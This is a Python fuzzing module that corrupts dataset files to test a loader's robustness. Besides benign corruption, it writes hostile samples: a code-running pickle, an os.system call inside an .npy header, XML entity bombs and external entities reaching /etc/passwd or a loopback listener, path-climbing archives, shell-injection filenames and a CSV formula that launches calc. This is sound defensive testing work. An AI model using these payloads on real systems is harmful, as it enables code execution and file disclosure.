"""Damage to one file of a source: bits, lengths, kinds, links, names, and what is meant to hurt.

Everything is drawn from the `random.Random` that is given, so that a seed
gives the same damage again.
"""

from __future__ import annotations

import dataclasses
import gzip
import io
import os
import pickle
import random
import re
import shutil
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import cv2
import numpy as np

from emojax.picture import PICTURE_SUFFIXES
from emojax.video import VIDEO_SUFFIXES

SOUND_SUFFIXES = frozenset({".wav", ".mp3", ".flac"})
SECRET = "sw0rdfish-of-the-neighbour"
"""Stands in files outside the source; a report that holds it has read them."""


@dataclasses.dataclass(frozen=True)
class Trap:
    """What hostile files point at, outside the source."""

    outside: Path
    """Folder of good files, one per suffix, named `good.png` and so on."""
    canary: Path
    """File that only a pickle, a shell or a climbing archive would make."""
    url: str
    """Of a listener on the loopback that notes who calls."""


@dataclasses.dataclass(frozen=True)
class Damage:
    """What was done to one file."""

    kind: str
    path: str
    """Where the file was, relative to the source."""
    now: str
    """Where it is, bytes that are no UTF-8 as surrogates."""
    hopeless: bool
    """Nobody can read it as what its name says: it has to be listed as left out."""

    @property
    def renamed(self) -> bool:
        """Whether it has another name now."""
        return self.now != self.path


Change = Callable[[bytes, random.Random, Trap], bytes]
Replace = Callable[[Path, random.Random, Trap], None]
Rename = Callable[[str, str], bytes]


def damage(source: Path, path: Path, kind: str, rng: random.Random, trap: Trap) -> Damage:
    """Damage a file in place and return what was done.

    Args:
        source: the folder that it lies in, at any depth.
        path: the file.
        kind: one of `kinds_for(path)`.
        rng: draws what the kind leaves open.
        trap: what hostile content points at.
    """
    before = str(path.relative_to(source))
    if kind in _NAMES:
        path = _rename(path, _NAMES[kind])
    elif kind in _NODES:
        _NODES[kind](path, rng, trap)
    else:
        path.write_bytes(_CONTENTS[kind](path.read_bytes(), rng, trap))
    return Damage(kind, before, str(path.relative_to(source)), _is_hopeless(path, kind))


def kinds_for(path: Path) -> tuple[str, ...]:
    """Return the kinds of damage that make sense for a file, by its name, in a fixed order."""
    suffix = path.suffix.lower()
    special: tuple[str, ...] = ()
    if suffix in PICTURE_SUFFIXES:
        special = _ABSURD_PICTURES
    elif suffix in VIDEO_SUFFIXES:
        special = _ABSURD_VIDEOS
    elif suffix in SOUND_SUFFIXES:
        special = _ABSURD_SOUNDS
    elif suffix == ".npy":
        special = _ABSURD_ARRAYS
    elif suffix == ".xml":
        special = (*_HOSTILE_XML, *_ABSURD_TEXTS)
    elif suffix == ".csv":
        special = (*_ABSURD_TABLES, *_ABSURD_TEXTS)
    elif suffix == ".txt":
        special = _ABSURD_TEXTS
    return (*special, *_EVERYWHERE, *_NODES, *_NAMES)


def is_text(path: Path) -> bool:
    """Return whether a file should hold text."""
    return path.suffix.lower() in (".txt", ".csv", ".xml")


def _is_hopeless(path: Path, kind: str) -> bool:
    if kind in ("png_instead", "bmp_of_60000"):
        return path.suffix.lower() not in PICTURE_SUFFIXES
    if kind in ("html_instead", "text_instead"):
        # A label file may be lucky with a line of text; XML and tables with none.
        return True
    return kind in _HOPELESS or kind in _NODES


# Bits and lengths.


def _flip(content: bytes, rng: random.Random, bits: int, reach: int | None = None) -> bytes:
    changed = bytearray(content)
    for _ in range(bits):
        place = rng.randrange(min(len(changed), reach or len(changed)))
        changed[place] ^= 1 << rng.randrange(8)
    return bytes(changed)


def _flip_text(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    return _flip(content, rng, rng.randint(1, 4))


def _huge_fields(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    """Write the largest numbers there are over a few places of the header."""
    changed = bytearray(content)
    for _ in range(rng.randint(1, 4)):
        place = rng.randrange(4, min(len(changed), 400))
        word = rng.choice([b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff", b"\xff\xff\xff\x7f"])
        changed[place : place + 4] = word
    return bytes(changed[: len(content)])


# Other kinds of file.


def png_bytes(width: int, height: int, rows: int | None = None) -> bytes:
    """Return a gray PNG whose header says `width` x `height`, with as many black rows or all."""
    chunks = [
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)),
        (b"IDAT", zlib.compress(bytes(width + 1) * (height if rows is None else rows), 9)),
        (b"IEND", b""),
    ]
    parts = [
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in chunks
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _encoded(suffix: str) -> bytearray:
    done, data = cv2.imencode(suffix, np.full((16, 16), 90, np.uint8))
    assert done
    return bytearray(data.tobytes())


def _absurd_jpeg(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    data = _encoded(".jpg")
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(data)


def _absurd_bmp(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    data = _encoded(".bmp")
    data[18:26] = struct.pack("<ii", 60_000, rng.choice([60_000, -60_000, -(2**31)]))
    return bytes(data)


def _absurd_tiff(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    tags = [(256, 60_000), (257, 60_000), (258, 8), (259, 1), (262, 1), (273, 8), (279, 2**31 - 1)]
    # A second size behind the first: readers differ in which they take.
    tags += rng.choice([[], [(256, 4), (257, 4)]])
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + bytes(64)


def _absurd_pnm(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    size = rng.choice([b"60000 60000 255", b"-5 -5 255", b"9" * 5000 + b" 1 255", b"4 4 99999999"])
    return rng.choice([b"P5\n", b"P6\n", b"P2\n"]) + size + b"\n" + bytes(100)


def _absurd_gif(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    """A small canvas with a picture of 65,535 x 65,535 on it, or a canvas of that size."""
    canvas = rng.choice([(8, 8), (65_535, 65_535)])
    head = b"GIF89a" + struct.pack("<HHBBB", *canvas, 0x80, 0, 0) + bytes(6)
    return head + b"," + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0) + b"\x02\x02D\x01\0;"


def _absurd_webp(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    body = b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + b"\xff" * 6
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _climbing_zip(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        for name in (f"../../../../../../..{trap.canary}", str(trap.canary), "../evil.png"):
            file.writestr(name, "climbed")
    return archive.getvalue()


def _climbing_tar(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as file:
        for name in (f"../../../../../../..{trap.canary}", str(trap.canary)):
            file.addfile(tarfile.TarInfo(name), io.BytesIO())
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
        file.addfile(link)
    return archive.getvalue()


def _playlist(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    """What FFmpeg takes for a list of other files, if it is let."""
    passwd = "file:///etc/passwd"
    return rng.choice(
        [
            f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{trap.url}a.ts\n#EXT-X-ENDLIST\n",
            f"#EXTM3U\n#EXTINF:1,\n{passwd}\n",
            f"ffconcat version 1.0\nfile {trap.url}b.mp4\nfile {passwd}\n",
            f'<?xml version="1.0"?><MPD><BaseURL>{trap.url}</BaseURL></MPD>',
            f"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video {trap.url[-6:-1]} RTP\n",
        ]
    ).encode()


# Videos and sounds.


def _absurd_avi(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    """Say 60,000 x 60,000 in the container, in the frames, or in both."""
    changed = bytearray(content)
    which = rng.choice(("container", "frames", "both"))
    at = content.find(b"strf")
    if which != "frames" and at > 0:
        changed[at + 12 : at + 20] = struct.pack("<ii", 60_000, 60_000)
    if which != "container":
        side = rng.choice([60_000, 16_000, 12_000])
        for match in re.finditer(rb"\xff\xc0\0", content):
            changed[match.start() + 5 : match.start() + 9] = struct.pack(">HH", side, side)
    return bytes(changed) if changed != content else _huge_fields(content, rng, trap)


def _absurd_rate(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    changed = bytearray(content)
    at = content.find(b"strh")
    if at < 0:
        return _huge_fields(content, rng, trap)
    scale, rate = rng.choice([(0, 0), (1, 2**32 - 1), (2**32 - 1, 1), (1, 0)])
    changed[at + 28 : at + 36] = struct.pack("<II", scale, rate)
    changed[at + 40 : at + 44] = struct.pack("<I", rng.choice([2**31 - 1, 2**32 - 1]))
    return bytes(changed)


def wav_bytes(
    samples: bytes, rate: int = 16_000, channels: int = 1, bits: int = 16, form: int = 1
) -> bytes:
    """Return a WAV whose header says what is given, true or not."""
    head = struct.pack("<HHIIHH", form, channels, rate, rate * 2 % 2**32, 2, bits)
    body = b"WAVEfmt " + struct.pack("<I", 16) + head + b"data" + struct.pack("<I", len(samples))
    return b"RIFF" + struct.pack("<I", len(body) + len(samples)) + body + samples


def _absurd_wav(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    samples = content[44:] if len(content) > 1000 else bytes(32_000)
    return rng.choice(
        [
            wav_bytes(samples, rate=1),
            wav_bytes(samples, rate=0),
            wav_bytes(samples, rate=2**32 - 1),
            wav_bytes(samples, channels=65_535),
            wav_bytes(samples, channels=0),
            wav_bytes(samples, bits=0),
            wav_bytes(samples, bits=65_535),
            wav_bytes(samples, form=0xFFFF),
        ]
    )


def _endless_wav(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    """Tell of 2^31 samples, and hold a few."""
    changed = bytearray(wav_bytes(bytes(4000)))
    changed[4:8] = changed[40:44] = struct.pack("<I", 2**32 - 2)
    return bytes(changed)


def _nan_wav(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    values = np.zeros(8000, "<f4")
    values[rng.randrange(8000) :] = rng.choice([np.nan, np.inf, -np.inf, 3e38])
    return wav_bytes(values.tobytes(), bits=32, form=3)


# Arrays.


class _Touch:
    """What a pickle runs when it is loaded."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (str(self.canary), "w")


def npy_bytes(description: str, shape: str, data: bytes, version: bytes = b"\x01\0") -> bytes:
    """Return a `.npy` whose header says what is given, true or not."""
    text = f"{{'descr': {description}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    text += b" " * (-(len(text) + 11) % 64) + b"\n"
    return b"\x93NUMPY" + version + struct.pack("<H", len(text) % 65_536) + text + data


def _huge_array(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    shape = rng.choice(
        ["(1099511627776, 1099511627776)", "(60000, 60000)", "(2147483648,)", "(-1, -1)"]
    )
    return npy_bytes(rng.choice(["'|u1'", "'<f8'", "'<f4'"]), shape, bytes(500))


def _pickled_array(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    pickled = pickle.dumps(_Touch(trap.canary))
    if rng.random() < 0.3:
        return pickled
    return npy_bytes("'|O'", rng.choice(["(1,)", "(64, 96)", "()"]), pickled)


def _foreign_array(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    description, size = rng.choice(
        [("'<c16'", 16), ("'<U4'", 16), ("'|V8'", 8), ("'<M8[s]'", 8), ("'|b1'", 1)]
    )
    return npy_bytes(description, "(8, 8)", bytes(64 * size))


def _odd_array(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    run = f"__import__('os').system('touch {trap.canary}')"
    return rng.choice(
        [
            npy_bytes("'|u1'", "(0, 8)", b""),
            npy_bytes("'|u1'", "()", b"\0"),
            npy_bytes("'|u1'", "(2, 2, 2, 2, 2)", bytes(32)),
            npy_bytes("'|u1'", "(8, 8)", bytes(64), version=b"\x09\x09"),
            npy_bytes(run, "(8, 8)", bytes(64)),
            npy_bytes("'|u1'", run, bytes(64)),
            npy_bytes("'|u1'", "(" * 3000 + "8" + ")" * 3000, bytes(64)),
        ]
    )


def _numberless_array(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    values = np.full((64, 96), 0.5, rng.choice(["<f4", "<f8"]))
    values[rng.randrange(64), rng.randrange(96)] = rng.choice([np.nan, np.inf, -1.0, 1e30, 255.0])
    file = io.BytesIO()
    np.save(file, values, allow_pickle=False)
    return file.getvalue()


# Text.

_ABSURD_NUMBERS = ("1e308", "NaN", "-1", "1" + "0" * 30, "inf", "-0", "0x10", "1_000", "9" * 5000)


def _absurd_number(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    """Put a number that makes no sense in the place of one."""
    numbers = list(re.finditer(rb"[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?", content))
    if not numbers:
        return b"1e308\n"
    spot = rng.choice(numbers)
    return content[: spot.start()] + rng.choice(_ABSURD_NUMBERS).encode() + content[spot.end() :]


def _foreign_digits(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    """Digits of another alphabet, which `int` and `\\d` take for digits."""
    first = rng.choice([0x0660, 0xFF10, 0x1D7CE])
    table = {ord("0") + value: chr(first + value) for value in range(10)}
    return content.decode("latin-1").translate(table).encode()


def _many_lines(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    return content + b"\n" + (content.splitlines() or [b"1,1"])[-1] + b"\n0" * 400_000


def _hole(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    place = rng.randrange(len(content) + 1)
    return content[:place] + b"\0" * rng.randint(1, 9) + content[place:]


def _wide_table(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    return b",".join(b"c%d" % number for number in range(100_000)) + b"\n" + content


def _wide_line(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    return content + b"\n" + b"1," * 100_000 + b"\n"


def _open_quote(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    place = rng.randrange(len(content))
    return content[:place] + b'"' + content[place:]


def _same_column(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    head, _, rest = content.partition(b"\n")
    cells = head.split(b",")
    cells[rng.randrange(len(cells))] = rng.choice(cells)
    return b",".join(cells) + b"\n" + rest


# XML.


def _with_doctype(declarations: Callable[[Trap], str], encoding: str = "utf-8") -> Change:
    """Return a change that declares a document type and uses its entity `x`."""

    def change(content: bytes, rng: random.Random, trap: Trap) -> bytes:
        body = content.decode("latin-1").split("?>", 1)[-1].strip()
        root = re.match(r"<([A-Za-z]+)", body)
        assert root is not None
        text = f"<!DOCTYPE {root[1]} {declarations(trap)}>\n" + body.replace("</", "&x;</", 1)
        return f'<?xml version="1.0" encoding="{encoding}"?>\n{text}'.encode(encoding)

    return change


def _bomb(trap: Trap) -> str:
    levels = "".join(f'<!ENTITY x{n + 1} "{f"&x{n};" * 10}">' for n in range(9))
    return f'[<!ENTITY x0 "ha">{levels}<!ENTITY x "&x9;">]'


def _local_entity(trap: Trap) -> str:
    return f'[<!ENTITY x SYSTEM "file://{trap.outside}/good.txt">]'


def _remote_entity(trap: Trap) -> str:
    return f'[<!ENTITY x SYSTEM "{trap.url}">]'


def _parameter_entity(trap: Trap) -> str:
    return f'[<!ENTITY % p SYSTEM "{trap.url}p.dtd"> %p; <!ENTITY x "y">]'


def _remote_type(trap: Trap) -> str:
    return f'SYSTEM "{trap.url}t.dtd" [<!ENTITY x "y">]'


def _utf7(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    body = content.decode("latin-1").split("?>", 1)[-1]
    return b'<?xml version="1.0" encoding="UTF-7"?>\n' + body.encode("utf-7")


def _included(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
        f'href="{rng.choice([trap.url, "file:///etc/passwd"])}"/>'
    )
    return content.replace(b"</", include.encode() + b"</", 1)


def _deep(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    return b"<a>" * 100_000 + b"</a>" * 100_000


def _crowded(content: bytes, rng: random.Random, trap: Trap) -> bytes:
    return content.replace(b"</", b"<a/>" * 200_000 + b"</", 1)


# Links, devices and folders.


def _put_folder(path: Path, rng: random.Random, trap: Trap) -> None:
    path.unlink()
    (path / "inner").mkdir(parents=True)


def _put_fifo(path: Path, rng: random.Random, trap: Trap) -> None:
    path.unlink()
    os.mkfifo(path)


def _put_socket(path: Path, rng: random.Random, trap: Trap) -> None:
    path.unlink()
    os.mknod(path, stat.S_IFSOCK | 0o600)


def _put_link(target: Callable[[Path, Trap], str]) -> Replace:
    def replace(path: Path, rng: random.Random, trap: Trap) -> None:
        path.unlink()
        path.symlink_to(target(path, trap))

    return replace


def _link_outside(path: Path, rng: random.Random, trap: Trap) -> None:
    """A good file of the same kind, which isn't the source's own."""
    good = trap.outside / f"good{path.suffix.lower()}"
    if not good.exists():
        shutil.copyfile(path, good)
    path.unlink()
    path.symlink_to(os.path.relpath(good, path.parent))


def _put_sparse(path: Path, rng: random.Random, trap: Trap) -> None:
    """The file's own beginning, and two gigabytes of nothing on no disk."""
    with path.open("r+b") as file:
        file.truncate(2 * 2**30)


# Names.


def _rename(path: Path, name: Rename) -> Path:
    wanted = os.fsencode(path.parent) + b"/" + name(path.stem, path.suffix)
    target = wanted
    for number in range(1, 100):
        if not os.path.lexists(target):
            break
        # The same name stands there: the same trick, told apart at its end.
        target = wanted + b"." * number + os.fsencode(path.suffix)
    os.rename(path, target)
    return Path(os.fsdecode(target))


_NAMES: dict[str, Rename] = {
    "name_with_newline": lambda stem, suffix: f"{stem[:3]}\n{stem[3:]}{suffix}".encode(),
    "name_with_dash": lambda stem, suffix: f"-rf {stem}{suffix}".encode(),
    "name_for_a_shell": lambda stem, suffix: f";$(touch x)`touch y`{stem}{suffix}".encode(),
    "name_of_255_bytes": lambda stem, suffix: (
        (stem.ljust(255, "a"))[: 255 - len(suffix)].encode() + suffix.encode()
    ),
    "name_not_utf8": lambda stem, suffix: b"\xff\xfe" + f"{stem}{suffix}".encode(),
    "name_with_right_to_left": lambda stem, suffix: f"{stem}\u202e{suffix}".encode(),
    "name_of_dots": lambda stem, suffix: f".{suffix}".encode(),
    "name_of_a_device": lambda stem, suffix: f"NUL{suffix}".encode(),
    "name_with_backslashes": lambda stem, suffix: f"..\\..\\{stem}{suffix}".encode(),
    "name_with_format": lambda stem, suffix: f"%s%n{{0}}{stem}{suffix}".encode(),
    "name_with_glob": lambda stem, suffix: f"*?[!a]{stem}{suffix}".encode(),
    "name_with_escape": lambda stem, suffix: f"\x1b[2J\r{stem}{suffix}".encode(),
    "name_with_spaces": lambda stem, suffix: f" {stem} {suffix} ".encode(),
}

_NODES: dict[str, Replace] = {
    "folder": _put_folder,
    "fifo": _put_fifo,
    "socket": _put_socket,
    "link_to_itself": _put_link(lambda path, trap: path.name),
    "link_to_zero": _put_link(lambda path, trap: "/dev/zero"),
    "link_to_passwd": _put_link(lambda path, trap: "/etc/passwd"),
    "link_to_parent": _put_link(lambda path, trap: ".."),
    "link_to_nothing": _put_link(lambda path, trap: "../../nothing"),
    "link_outside": _link_outside,
}

_EVERYWHERE_CONTENTS: dict[str, Change] = {
    "flip_in_head": lambda content, rng, trap: _flip(content, rng, rng.randint(1, 3), 64),
    "flip_anywhere": lambda content, rng, trap: _flip(content, rng, rng.randint(1, 20)),
    "truncated": lambda content, rng, trap: content[: rng.randrange(1, len(content))],
    "nearly_whole": lambda content, rng, trap: content[: -rng.randint(1, 3)],
    "emptied": lambda content, rng, trap: b"",
    "zeroed": lambda content, rng, trap: bytes(len(content)),
    "random_bytes": lambda content, rng, trap: rng.randbytes(max(64, len(content) // 8)),
    "html_instead": lambda content, rng, trap: b"<!DOCTYPE html><html>404 not found</html>\n" * 9,
    "text_instead": lambda content, rng, trap: b"This file was moved to another server.\n" * 30,
    "png_instead": lambda content, rng, trap: png_bytes(48, 48),
    "zip_that_climbs": _climbing_zip,
    "tar_that_climbs": _climbing_tar,
    "gzip_bomb": lambda content, rng, trap: gzip.compress(bytes(10 * 2**20)),
}
_EVERYWHERE = tuple(_EVERYWHERE_CONTENTS)

_PICTURES: dict[str, Change] = {
    "png_of_60000": lambda content, rng, trap: png_bytes(60_000, 60_000, rows=2),
    "png_of_one_line": lambda content, rng, trap: png_bytes(2**31 - 1, 1, rows=0),
    "png_without_rows": lambda content, rng, trap: png_bytes(48, 48, rows=20),
    "jpeg_of_60000": _absurd_jpeg,
    "bmp_of_60000": _absurd_bmp,
    "tiff_of_60000": _absurd_tiff,
    "pnm_of_60000": _absurd_pnm,
    "gif_of_65535": _absurd_gif,
    "webp_of_16777216": _absurd_webp,
    "huge_fields": _huge_fields,
}
_ABSURD_PICTURES = tuple(_PICTURES)

_VIDEOS: dict[str, Change] = {
    "frames_of_60000": _absurd_avi,
    "absurd_rate": _absurd_rate,
    "playlist": _playlist,
    "huge_fields": _huge_fields,
}
_ABSURD_VIDEOS = tuple(_VIDEOS)

_SOUNDS: dict[str, Change] = {
    "absurd_wav": _absurd_wav,
    "endless_wav": _endless_wav,
    "nan_wav": _nan_wav,
    "playlist": _playlist,
    "huge_fields": _huge_fields,
}
_ABSURD_SOUNDS = tuple(_SOUNDS)

_ARRAYS: dict[str, Change] = {
    "huge_array": _huge_array,
    "pickled_array": _pickled_array,
    "foreign_array": _foreign_array,
    "odd_array": _odd_array,
    "numberless_array": _numberless_array,
}
_ABSURD_ARRAYS = tuple(_ARRAYS)

_TEXTS: dict[str, Change] = {
    "absurd_number": _absurd_number,
    "foreign_digits": _foreign_digits,
    "line_of_megabytes": lambda content, rng, trap: content + b"7" * (3 * 2**20),
    "many_lines": _many_lines,
    "holes": _hole,
    "utf16": lambda content, rng, trap: content.decode("latin-1").encode("utf-16"),
    "not_utf8": lambda content, rng, trap: content + b"\xff\xfe\xc3",
}
_ABSURD_TEXTS = tuple(_TEXTS)

_TABLES: dict[str, Change] = {
    "wide_table": _wide_table,
    "wide_line": _wide_line,
    "open_quote": _open_quote,
    "same_column": _same_column,
}
_ABSURD_TABLES = tuple(_TABLES)

_XMLS: dict[str, Change] = {
    "entity_bomb": _with_doctype(_bomb),
    "entity_from_a_file": _with_doctype(_local_entity),
    "entity_from_the_network": _with_doctype(_remote_entity),
    "parameter_entity": _with_doctype(_parameter_entity),
    "type_from_the_network": _with_doctype(_remote_type),
    "utf16_entity": _with_doctype(_local_entity, "utf-16"),
    "utf7": _utf7,
    "include": _included,
    "deep": _deep,
    "crowded": _crowded,
}
_HOSTILE_XML = tuple(_XMLS)

_CONTENTS: dict[str, Change] = {
    **_EVERYWHERE_CONTENTS,
    **_PICTURES,
    **_VIDEOS,
    **_SOUNDS,
    **_ARRAYS,
    **_TEXTS,
    **_TABLES,
    **_XMLS,
}

_HOPELESS = {
    *("emptied", "zeroed", "random_bytes", "zip_that_climbs", "tar_that_climbs", "gzip_bomb"),
    *("png_of_60000", "png_of_one_line", "png_without_rows", "jpeg_of_60000", "pnm_of_60000"),
    *("webp_of_16777216", "playlist", "pickled_array", "foreign_array", "odd_array", "huge_array"),
    *("entity_bomb", "entity_from_a_file", "entity_from_the_network", "parameter_entity"),
    *("type_from_the_network", "utf16_entity", "utf7", "deep", "crowded"),
    *("foreign_digits", "line_of_megabytes", "wide_table", "utf16", "many_lines", "not_utf8"),
}


# Lines of a table.


def damage_line(line: bytes, kind: str, rng: random.Random) -> bytes:
    """Return a line of a table, damaged; no line end comes in, so that lines keep their places."""
    return re.sub(rb"[\r\n]", b"~", _LINES[kind](line, rng))


def _cell(line: bytes, rng: random.Random, value: bytes) -> bytes:
    cells = re.split(rb"[, ]", line)
    cut = rng.choice(cells)
    return line.replace(cut, value, 1)


_LINES: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "line_flipped": lambda line, rng: _flip(line, rng, rng.randint(1, 8)),
    "line_truncated": lambda line, rng: line[: rng.randrange(1, len(line))],
    "line_emptied": lambda line, rng: b",,",
    "line_of_noise": lambda line, rng: rng.randbytes(3000),
    "line_of_megabytes": lambda line, rng: line + b" 1" * 2**20,
    "line_of_many_cells": lambda line, rng: line + b",1" * 30_000,
    "line_with_absurd_number": lambda line, rng: _cell(
        line, rng, rng.choice(_ABSURD_NUMBERS).encode()
    ),
    "line_with_256": lambda line, rng: _cell(line, rng, b"256"),
    "line_with_quote": lambda line, rng: _cell(line, rng, b'"'),
    "line_with_zeros": lambda line, rng: _cell(line, rng, b"\0\0"),
    "line_in_utf16": lambda line, rng: line.decode("latin-1").encode("utf-16"),
    "line_with_foreign_digits": lambda line, rng: _cell(line, rng, "\u0661\uff12".encode()),
    "line_with_formula": lambda line, rng: _cell(line, rng, b"=cmd|'/c calc'!A0"),
}

LINE_KINDS = tuple(_LINES)
"""What `damage_line` can do."""
